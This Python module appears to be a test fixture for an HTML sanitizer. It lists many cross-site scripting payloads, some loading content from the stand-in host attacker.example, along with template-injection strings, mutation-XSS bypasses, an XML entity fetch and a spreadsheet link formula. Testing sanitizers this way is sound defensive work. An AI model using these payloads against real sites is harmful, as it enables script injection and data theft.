"""Texts that would run something if any page took them for markup: our own, and published ones.

Each of ours calls `xss()` or has an element that is marked `data-xss`: a test looks for both.
"""

import json
from collections.abc import Iterator
from functools import cache
from pathlib import Path

CALL = "xss()"

_PUBLISHED = Path(__file__).parent / "npm/node_modules/dompurify-tests/test/expect.json"

_HANDLED = (
    "img src=x onerror",
    "img src=x: onerror",
    "image src=x onerror",
    "svg onload",
    "body onload",
    "body onpageshow",
    "video src=x onerror",
    "video><source onerror",
    "audio src=x onerror",
    "input autofocus onfocus",
    "input type=image src=x onerror",
    "select autofocus onfocus",
    "textarea autofocus onfocus",
    "keygen autofocus onfocus",
    "details open ontoggle",
    "marquee onstart",
    "marquee loop=1 width=0 onfinish",
    "iframe onload",
    "object data=x onerror",
    "embed src=x onload",
    "link rel=stylesheet href=x onerror",
    "style onload",
    "script src=x onerror",
    "div onpointerover",
    "div tabindex=0 autofocus onfocus",
    "a href=# autofocus onfocus",
    "p contenteditable autofocus onfocus",
    "button autofocus onfocus",
    "dialog open onclose",
    "form onsubmit",
    "meter onmouseover",
    "b onclick",
    "frameset onload",
    "table background=x onload",
    "math onfocus",
    "track default src=x onerror",
)
_SEPARATORS = (" ", "/", "\t", "\n")
_WHOLE = (
    "<script data-xss>xss()</script>",
    "<ScRiPt data-xss>xss()</sCrIpT>",
    "<script data-xss src=data:text/javascript,xss()></script>",
    "<script data-xss src=//attacker.example/x.js></script>",
    "<script data-xss type=module>xss()</script>",
    "<scr<script data-xss>ipt>xss()</scr</script>ipt>",
    "<script/data-xss>xss()<",
    "</script><script data-xss>xss()</script>",
    "</title><script data-xss>xss()</script>",
    "</textarea><script data-xss>xss()</script>",
    "</style><script data-xss>xss()</script>",
    "</option></select><script data-xss>xss()</script>",
    "</td></tr></table><script data-xss>xss()</script>",
    "--><script data-xss>xss()</script><!--",
    "]]><script data-xss>xss()</script>",
    "</noscript><script data-xss>xss()</script>",
    "</template><img data-xss src=x onerror=xss()>",
    "</iframe><img data-xss src=x onerror=xss()>",
    "</svg><img data-xss src=x onerror=xss()>",
    "</xmp><img data-xss src=x onerror=xss()>",
    '"><script data-xss>xss()</script>',
    "'><script data-xss>xss()</script>",
    "`><script data-xss>xss()</script>",
    '" onfocus=xss() autofocus data-xss="',
    "' onfocus='xss()' autofocus data-xss='",
    '" onmouseover="xss()" data-xss x="',
    "x onfocus=xss() autofocus data-xss",
    '" style="animation:x" onanimationstart="xss()" data-xss="',
    '"/><svg/onload=xss() data-xss>',
    '"><img data-xss src=x onerror=xss()>',
    "\"'><img data-xss src=x onerror=xss()>",
    "<a data-xss href=javascript:xss()>x</a>",
    "<a data-xss href=JaVaScRiPt:xss()>x</a>",
    "<a data-xss href='java\tscript:xss()'>x</a>",
    "<a data-xss href='&#106;avascript:xss()'>x</a>",
    "<a data-xss href=data:text/html,<script>xss()</script>>x</a>",
    "<a data-xss href=vbscript:xss()>x</a>",
    "javascript:xss()//",
    "javascript:/*--></title></style></textarea></script><svg/onload=xss() data-xss>",
    "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==",
    "<form data-xss action=javascript:xss()><button>x</button></form>",
    "<form data-xss action=//attacker.example/><input name=csrf></form>",
    "<button data-xss form=x formaction=javascript:xss()>x</button>",
    "<input data-xss type=submit formaction=//attacker.example/ value=x>",
    "<isindex data-xss action=javascript:xss() type=submit>",
    "<iframe data-xss srcdoc='<script>parent.xss()</script>'></iframe>",
    "<iframe data-xss src=javascript:xss()></iframe>",
    "<iframe data-xss src=//attacker.example/></iframe>",
    "<object data-xss data=javascript:xss()></object>",
    "<object data-xss data=//attacker.example/></object>",
    "<embed data-xss src=javascript:xss()>",
    "<portal data-xss src=//attacker.example/></portal>",
    "<meta data-xss http-equiv=refresh content='0;url=//attacker.example/'>",
    "<meta data-xss http-equiv=refresh content='0;url=javascript:xss()'>",
    '<meta data-xss http-equiv=content-security-policy content="default-src *">',
    "<base data-xss href=//attacker.example/>",
    "<link data-xss rel=stylesheet href=//attacker.example/x.css>",
    "<link data-xss rel=prefetch href=//attacker.example/x>",
    "<link data-xss rel=import href=//attacker.example/x.html>",
    "<style data-xss>@import '//attacker.example/x.css';</style>",
    "<style data-xss>*{background:url(//attacker.example/x)}</style>",
    "<div data-xss style='background:url(//attacker.example/x)'>x</div>",
    "<div data-xss style='width:expression(xss())'>x</div>",
    "<div data-xss style='position:fixed;inset:0;background:red'>x</div>",
    "<img data-xss src=//attacker.example/x.png>",
    "<img data-xss srcset='//attacker.example/x.png 1x'>",
    "<picture><source data-xss srcset=//attacker.example/x.png><img></picture>",
    "<video data-xss poster=//attacker.example/x.png></video>",
    "<audio data-xss autoplay src=//attacker.example/x.mp3></audio>",
    "<svg data-xss><script>xss()</script></svg>",
    "<svg data-xss><image href=//attacker.example/x.png /></svg>",
    "<svg data-xss><use href='data:image/svg+xml,<svg id=x onload=xss()>#x'/></svg>",
    "<svg data-xss><a href=javascript:xss()><text y=20>x</text></a></svg>",
    "<svg data-xss><animate onbegin=xss() attributeName=x dur=1s></svg>",
    "<svg data-xss><set onbegin=xss() attributeName=x to=y></svg>",
    "<svg data-xss><a><animate attributeName=href values=javascript:xss() /></a></svg>",
    "<svg data-xss><foreignObject><img src=x onerror=xss()></foreignObject></svg>",
    "<svg data-xss><style>@import '//attacker.example/x.css'</style></svg>",
    "<svg data-xss><desc><img src=x onerror=xss()></desc></svg>",
    "<math data-xss><maction actiontype=statusline xlink:href=javascript:xss()>x</maction></math>",
    "<math data-xss href=javascript:xss()>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img data-xss title='--><img onerror=xss()>'>",
    "<form><math><mtext></form><form><mglyph><svg><path data-xss id='</svg><img onerror=xss()>'>",
    "<noscript><p title='</noscript><img data-xss src=x onerror=xss()>'>",
    "<template data-xss><script>xss()</script></template>",
    "<xss data-xss id=x tabindex=1 onfocus=xss()>x</xss>",
    "<img data-xss name=cookie><form id=body></form>",
    "<a id=csrf data-xss></a><a id=csrf name=value data-xss></a>",
    "<plaintext data-xss>",
    "<!--><img data-xss src=x onerror=xss()>-->",
    "<![CDATA[<img data-xss src=x onerror=xss()>]]>",
    "<?xml-stylesheet href=//attacker.example/x.xsl?><xss data-xss/>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM '//attacker.example/x'>]><xss data-xss>&e;</xss>",
    "&lt;script data-xss&gt;xss()&lt;/script&gt;",
    "&#60;img data-xss src=x onerror=xss()&#62;",
    "\\u003cimg data-xss src=x onerror=xss()\\u003e",
    "\\x3cimg data-xss src=x onerror=xss()\\x3e",
    "%3Cimg%20data-xss%20src=x%20onerror=xss()%3E",
    "\N{FULLWIDTH LESS-THAN SIGN}img data-xss src=x onerror=xss()\N{FULLWIDTH GREATER-THAN SIGN}",
    "{{ 7 * 7 }}{{ self.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${xss()}",
    "#{xss()}",
    "<%= xss() %>",
    "${{xss()}}",
    "{{constructor.constructor('xss()')()}}",
    "';xss();//",
    '";xss();//',
    "`+xss()+`",
    "\\';xss();//",
    "*/xss()/*",
    "</script\t><img data-xss src=x onerror=xss()>",
    "<img data-xss src=x onerror=&#120;&#115;&#115;&#40;&#41;>",
    "<img data-xss src=x onerror\N{NO-BREAK SPACE}=xss()>",
    "<img data-xss src=`x`onerror=xss()>",
    "<<img data-xss src=x onerror=xss()//<",
    "<img data-xss src=x onerror=eval(atob('eHNzKCk='))>",
    "<img data-xss src=x onerror=window['xss']()>",
    "<a data-xss href='//attacker.example/' target=_blank rel=opener>x</a>",
    "[x](javascript:xss())",
    "![x](//attacker.example/x.png)",
    "<https://attacker.example/>",
    '=HYPERLINK("https://attacker.example/")',
)
"""Others, each by itself."""


def _handled() -> Iterator[str]:
    for place, opening in enumerate(_HANDLED):
        between = _SEPARATORS[place % len(_SEPARATORS)]
        yield f"<{opening}={CALL}{between}data-xss>"


PAYLOADS = (*_handled(), *_WHOLE)


@cache
def published() -> tuple[str, ...]:
    """Return what DOMPurify was tested with: for the most part the HTML5 Security Cheatsheet.

    They call `alert`. Raises `FileNotFoundError` where the outside verifiers are not installed.
    """
    tests = json.loads(_PUBLISHED.read_text(encoding="utf-8"))
    return tuple(dict.fromkeys(each["payload"] for each in tests))
